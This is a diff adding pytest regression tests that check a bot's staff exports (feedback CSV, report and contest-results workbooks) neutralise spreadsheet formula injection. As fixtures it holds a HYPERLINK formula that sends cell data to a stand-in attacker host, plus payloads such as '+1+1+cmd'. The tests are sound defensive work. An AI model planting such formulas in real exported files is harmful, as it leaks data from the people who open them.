@@ -1,0 +1,87 @@
+"""Issue 17, what the running server gave away when probed: each finding with a test that
+failed before its fix."""
+
+from __future__ import annotations
+
+import csv
+import io
+from collections.abc import AsyncIterator
+from dataclasses import replace
+from datetime import UTC, datetime
+from pathlib import Path
+
+import pytest
+from aiohttp.test_utils import TestClient, TestServer
+from openpyxl import load_workbook
+
+from bot.app import create_app
+from bot.contests.bank import export_results
+from bot.keys import DEPS
+from bot.report import workbook
+from bot.report.model import GapGroup
+from bot.settings import Settings
+from bot.staff import auth
+from db.contest_queries import GroupStanding, Standing
+from db.models import Contest
+from tests.report_sample import sample_report
+from tests.test_staff_console import PASSWORD, login
+
+FORMULA = '=HYPERLINK("https://evil.example/?"&B2,"Bấm vào đây")'
+
+
+@pytest.fixture
+async def client(tmp_path: Path) -> AsyncIterator[TestClient]:
+    app = create_app(Settings(database_url=f"sqlite:///{tmp_path}/hard.sqlite3"))
+    async with TestClient(TestServer(app)) as test_client:
+        async with app[DEPS].sessions() as session, session.begin():
+            for name, role in (("an", "admin"), ("binh", "staff"), ("chi", "tech_team")):
+                await auth.add_staff(session, name, name.title(), PASSWORD, role)
+        yield test_client
+
+
+# --- 1. formulas in the files staff download ------------------------------------------------
+
+
+async def test_feedback_csv_keeps_a_formula_as_text(client: TestClient) -> None:
+    csrf = await login(client, "binh")
+    for start in (FORMULA, "+1+1+cmd", "-2+3+cmd", "@SUM(A1:A9)", "=1+1 \t=2+2"):
+        await client.post(
+            "/staff/feedback/new",
+            data={"csrf": csrf, "category": "khac", "description": start, "area": start},
+        )
+    exported = (await (await client.get("/staff/export.csv")).read()).decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(exported)))[1:]
+    assert len(rows) == 5
+    for row in rows:
+        for field in row:
+            assert not field.startswith(("=", "+", "-", "@", "\t", "\r")), row
+
+
+def test_report_workbook_keeps_residents_formulas_as_text(tmp_path: Path) -> None:
+    report = replace(sample_report(), gaps=[GapGroup(FORMULA, 3, ["+SUM(1)"], None)])
+    path = workbook.write(report, {}, tmp_path / "report.xlsx")
+    book = load_workbook(path)
+    found = [
+        cell
+        for sheet in book.worksheets
+        for row in sheet.iter_rows()
+        for cell in row
+        if isinstance(cell.value, str) and cell.value.startswith(("=", "+"))
+    ]
+    assert found and all(cell.data_type == "s" for cell in found)
+
+
+def test_contest_results_keep_formulas_as_text() -> None:
+    now = datetime.now(UTC)
+    contest = Contest(id=1, title="=1+1", starts_at=now, ends_at=now, created_by="t")
+    standings = [Standing('=HYPERLINK("x")', "@tổ 3", 5, 10, 12.0, "web")]
+    groups = [GroupStanding("-tổ 3", 1, 5.0, 5)]
+    book = load_workbook(io.BytesIO(export_results(contest, standings, groups, [])))
+    texts = [
+        cell
+        for sheet in book.worksheets
+        for row in sheet.iter_rows()
+        for cell in row
+        if isinstance(cell.value, str) and cell.value[:1] in "=+-@"
+    ]
+    assert len(texts) == 3 and all(cell.data_type == "s" for cell in texts)
